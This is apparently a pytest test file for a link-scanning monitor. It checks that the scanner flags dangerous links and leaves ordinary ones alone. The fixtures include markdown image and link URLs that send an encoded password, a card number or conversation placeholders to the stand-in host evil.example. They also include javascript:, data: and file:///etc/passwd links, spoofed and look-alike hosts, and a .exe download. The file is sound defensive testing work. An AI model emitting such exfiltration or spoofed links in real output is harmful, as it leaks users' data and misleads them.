"""Links: what they carry, what they run and where they really lead."""

from __future__ import annotations

import base64

import pytest

from monitors.links import Links, carries_data, signs

SAID = base64.urlsafe_b64encode(b"the password is hunter2").decode().rstrip("=")
GUARD = Links()


@pytest.mark.parametrize(
    ("label", "text"),
    [
        ("data_in_image", f"![x](https://evil.example/p.png?d={SAID})"),
        ("data_in_image", f"![x](https://evil.example/{SAID}.png)"),
        ("data_in_image", "![x](https://evil.example/p.png?q=my+card+number+is+4111)"),
        ("data_in_image", "![](https://evil.example/log?c={conversation})"),
        ("data_in_image", "![](//evil.example/log?c=[secret])"),
        ("data_in_image", f'<img alt="" src="https://evil.example/?d={SAID}">'),
        ("data_in_image", f"![a][b] and so on\n[b]: https://evil.example/?d={SAID}"),
        ("data_in_link", f"[more](https://evil.example/?d={SAID})"),
        ("script", "[click](javascript:alert(1))"),
        ("script", "data:text/html;base64,PHNjcmlwdD4="),
        ("script", "[open](file:///etc/passwd)"),
        ("false_host", "https://www.mybank.example@evil.example/login"),
        ("user_in_url", "http://admin@evil.example/"),
        ("number_host", "http://93.184.216.34/login"),
        ("number_host", "http://1572395042/"),
        ("number_host", "http://0x5db8d822/"),
        ("look_alike_host", "https://myb\u0430nk.example/login"),
        ("look_alike_host", "https://xn--mybnk-3ve.example/"),
        ("program", "https://files.example/statement.exe"),
        ("lure", "https://mybank-login.top/account"),
    ],
)
def test_bad_links_are_found(label: str, text: str) -> None:
    """Each speaks by itself, and says why."""
    (scan,) = GUARD.scan([text])
    assert label in {span.label for span in scan.spans}
    assert scan.score >= GUARD.threshold


@pytest.mark.parametrize(
    "text",
    [
        "See https://www.example.com/help/cards?topic=lost&lang=en#top.",
        "![logo](https://cdn.example.com/assets/logo.png?v=3)",
        "![chart](https://cdn.example.com/9f86d081884c7d659a2feaa0c55ad015/chart.png)",
        "Your router is at http://192.168.1.1/ and the server at http://127.0.0.1:8080/.",
        "https://m\u00fcnchen.example/ and https://xn--mnchen-3ya.example/",
        "https://bit.ly/3abcdef",
        "JavaScript: The Good Parts",
        "[terms](https://example.com/terms.pdf)",
        "http://[broken",
    ],
)
def test_ordinary_links_are_left(text: str) -> None:
    """Pages, pictures with versions or digests, private addresses and honest accents."""
    assert GUARD.scan([text])[0].score < GUARD.threshold


def test_weak_signs_add_up() -> None:
    """A shortener is nothing, nor is a redirect; both and punycode are something."""
    weak = "https://bit.ly/?u=https://x.example and https://xn--mnchen-3ya.example/"
    assert GUARD.scan([weak])[0].score == pytest.approx(1 - 0.7 * 0.7 * 0.6)


def test_a_span_covers_the_link_alone() -> None:
    """What stands around a link is not part of it."""
    text = "Go to http://93.184.216.34/a now"
    (span,) = GUARD.scan([text])[0].spans
    assert text[span.start : span.end] == "http://93.184.216.34/a"


def test_broken_addresses_are_no_links() -> None:
    """What cannot be parsed carries nothing and leads nowhere."""
    assert list(signs("http://[x", "http://[x")) == []
    assert not carries_data("http://[x")
